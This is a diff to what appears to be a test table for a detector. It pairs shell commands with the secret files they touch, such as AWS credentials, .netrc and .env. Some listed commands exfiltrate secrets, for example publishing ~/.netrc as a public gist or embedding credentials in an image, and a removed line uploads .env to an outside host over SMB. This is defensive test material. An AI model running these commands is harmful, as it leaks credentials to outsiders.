@@ -15,7 +15,6 @@ from effect_support import HOME, ops
         ('exiftool "-Comment<=$HOME/.aws/credentials" -o /tmp/x.jpg a.jpg', f"{HOME}/.aws/credentials"),
         ("cmake -E cat ~/.aws/credentials", f"{HOME}/.aws/credentials"),
         ("gh gist create --public ~/.netrc", f"{HOME}/.netrc"),
-        ("smbclient //203.0.113.7/drop -N -c 'put .env'", "{proj}/.env"),
         ("someprog --from-file=config/.env", "{proj}/config/.env"),
         ("m4 .env", "{proj}/.env"),
         ("git add -f .env", "{proj}/.env"),
